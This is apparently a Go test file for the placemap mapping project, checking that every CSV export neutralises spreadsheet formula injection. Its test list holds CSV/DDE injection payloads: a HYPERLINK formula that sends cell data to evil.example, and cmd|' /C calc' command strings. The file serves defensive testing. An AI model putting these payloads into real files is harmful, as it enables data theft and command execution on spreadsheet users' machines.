package csvcell_test

import (
	"bytes"
	"encoding/csv"
	"io"
	"regexp"
	"strings"
	"testing"

	"github.com/paulmach/orb"

	"github.com/placemap/placemap/internal/formats"
	"github.com/placemap/placemap/internal/importer"
	"github.com/placemap/placemap/internal/osm"
	"github.com/placemap/placemap/internal/place"
	"github.com/placemap/placemap/internal/reconcile"
)

// hostile are texts a spreadsheet would run as formulas: names, codes and
// notes an attacker (or an unlucky source file) can put in placemap.
var hostile = []string{
	`=HYPERLINK("http://evil.example/?"&A1,"Click")`,
	"+1+cmd|' /C calc'!A0",
	"-2+3+cmd|' /C calc'!A0",
	"@SUM(1+1)*cmd|' /C calc'!A0",
	"\t=1+2",
	"\r=1+2",
}

// TestEveryCSVWriterNeutralisesFormulas writes every CSV placemap makes
// (assets, set, membership and crosswalk exports, the many-to-many and
// lookup crosswalks, the release change reports, the conflation report,
// an indicator's figures)
// with hostile text in every text field, and checks that no cell a
// spreadsheet reads begins a formula, while numbers stay numbers.
func TestEveryCSVWriterNeutralisesFormulas(t *testing.T) {
	for _, h := range hostile {
		for name, write := range writers(h) {
			t.Run(name, func(t *testing.T) {
				var b bytes.Buffer
				if err := write(&b); err != nil {
					t.Fatal(err)
				}
				rows, err := csv.NewReader(&b).ReadAll()
				if err != nil {
					t.Fatalf("read back: %v\n%s", err, b.String())
				}
				quoted, numbers := 0, 0
				for i, row := range rows {
					for j, cell := range row {
						if cell == "" {
							continue
						}
						if strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
							if number.MatchString(cell) {
								numbers++
								continue
							}
							t.Errorf("row %d cell %d begins a formula: %q", i, j, cell)
						}
						if cell == "'"+h {
							quoted++
						}
					}
				}
				if quoted == 0 {
					t.Errorf("the hostile text %q is not in the file, quoted:\n%s", h, b.String())
				}
				if wantNumbers[name] && numbers == 0 {
					t.Errorf("the number -1.5 (or +44) was changed:\n%s", b.String())
				}
			})
		}
	}
}

// number is a plain decimal number, which a spreadsheet reads as data.
var number = regexp.MustCompile(`^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$`)

// wantNumbers names the writers whose output holds a negative number.
var wantNumbers = map[string]bool{"layer-wkt": true, "layer-lonlat": true, "figures": true}

func writers(h string) map[string]func(io.Writer) error {
	layer := formats.Layer{Name: "assets", Title: h,
		Columns: []formats.Column{{Name: h, Type: formats.Text}, {Name: "x", Type: formats.Real}, {Name: "phone", Type: formats.Text}, {Name: "n", Type: formats.Integer}},
		Sources: []formats.Source{{Title: h, Attribution: h, Licence: h}},
		Rows: func(yield func(formats.Row) error) error {
			return yield(formats.Row{ID: h, Geometry: orb.Point{-1.5, 53.38}, Values: []any{h, -1.5, "+44", int64(-3)}})
		}}
	local := &place.Asset{ID: h, Name: h, Category: h}
	remote := &place.Asset{SourceID: h, Name: h, Category: h}
	matches := []osm.Match{
		{Outcome: osm.Matched, By: h, Local: local, OSM: remote, DistanceM: 1.5, NameScore: 0.9, Diff: []osm.TagChange{{Key: h, Local: h, OSM: h}}},
		{Outcome: osm.Ambiguous, Local: local, Candidates: []string{h}},
	}
	rep := reconcile.Report{
		Pairs:   []reconcile.PairRow{{ACode: h, AName: h, BCode: h, BName: h, InterM2: 10, ShareAInB: 0.5, ShareBInA: 0.5, IoU: 0.3, Class: reconcile.Class(h)}},
		BestFit: []reconcile.BestFitRow{{ACode: h, AName: h, BCode: h, BName: h, Share: 0.5}},
	}
	a := place.BoundarySet{Slug: "a", CodeField: h, NameField: h}
	b := place.BoundarySet{Slug: "b", CodeField: h + "2", NameField: h}
	old := place.SetSummary{BoundarySet: place.BoundarySet{Slug: "old"}}
	nw := place.SetSummary{BoundarySet: place.BoundarySet{Slug: "new"}}
	changes := &reconcile.ChangeReport{Old: old, New: nw, NewNames: map[string]string{h: h},
		Changes: []place.AreaChange{
			{Set: "old", Code: h, Name: h, Change: place.ChangeClass(h), Main: h,
				Successors: []place.Successor{{NewCode: h, ShareOfOld: 1, ShareOfNew: 1, IoU: 1, Status: place.SuccessorStatus(h), DecidedBy: h, Note: h}}},
			{Set: "old", Code: h + "r", Name: h, Change: place.ChangeClass(h)},
			{Set: "new", Code: h, Name: h, Change: place.ChangeClass(h)},
		},
		Assets: []reconcile.AssetMove{{ID: h, Name: h, Category: h, OldCode: h, OldName: h, NewCode: h, NewName: h, Change: place.ChangeClass(h)}},
	}
	return map[string]func(io.Writer) error{
		"layer-wkt":             func(w io.Writer) error { return formats.WriteCSV(w, layer, formats.CSVWKT) },
		"layer-lonlat":          func(w io.Writer) error { return formats.WriteCSV(w, layer, formats.CSVLonLat) },
		"conflation-report":     func(w io.Writer) error { return importer.WriteConflationCSV(w, matches) },
		"crosswalk-csv":         func(w io.Writer) error { return rep.WriteCSV(w) },
		"crosswalk-lookup":      func(w io.Writer) error { return rep.WriteLookup(w, a, b) },
		"release-changes":       func(w io.Writer) error { return changes.WriteCSV(w) },
		"release-changes-asset": func(w io.Writer) error { return changes.WriteAssetsCSV(w) },
		"figures": func(w io.Writer) error {
			f := reconcile.Figures{From: h, Method: h, Values: map[string]float64{h: -1.5}}
			f.Name = h
			return reconcile.WriteFiguresCSV(w, h, []reconcile.FigureRow{{Code: h, Name: h}}, f)
		},
	}
}
